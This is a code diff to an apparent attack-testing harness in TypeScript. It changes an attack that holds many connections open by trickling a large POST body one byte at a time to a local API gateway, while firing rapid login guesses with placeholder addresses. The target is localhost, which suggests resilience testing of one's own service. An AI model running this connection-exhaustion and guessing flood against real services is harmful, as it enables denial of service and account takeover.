@@ -24,19 +24,24 @@ async function openSockets({ host, port }: Target, count: number): Promise<Socke
   return sockets;
 }
 
-/** With a key, so that the body is wanted; most of it is sent at once and the rest byte by byte. */
+const firstBytes = 16 * 1024;
+
+/** With a key, so that the body is wanted; it goes on byte by byte. */
 function startBody(socket: Socket, { apiKey, projectHash }: Target): void {
-  const bytes = 1_000_000;
   socket.write(
     lines(
       `POST /api/gateway/execute/${projectHash}/api HTTP/1.1`,
       'Host: localhost',
       `X-API-KEY: ${apiKey}`,
       'Content-Type: application/json',
-      `Content-Length: ${bytes}`,
+      'Content-Length: 1000000',
     ),
   );
-  socket.write(Buffer.alloc(bytes - 1000, ' '));
+  socket.write(Buffer.alloc(firstBytes, ' '));
+}
+
+function trickle(sockets: readonly Socket[]): void {
+  for (const socket of sockets) if (socket.writable) socket.write(' ');
 }
 
 export const together: Attack = {
@@ -49,7 +54,7 @@ export const together: Attack = {
     const verdicts: Promise<unknown>[] = [];
     for (let n = 0; n < guessesPerSecond * seconds; n += 1) {
       verdicts.push(guess(`person${n}@attack.example`, 'a guess').catch((error: unknown) => String(error)));
-      for (const socket of slow.slice(n % 50, 20)) if (socket.writable) socket.write(' ');
+      if (n % guessesPerSecond === 0) trickle(slow);
       await sleep(1000 / guessesPerSecond);
     }
     const answers = await Promise.all(verdicts);
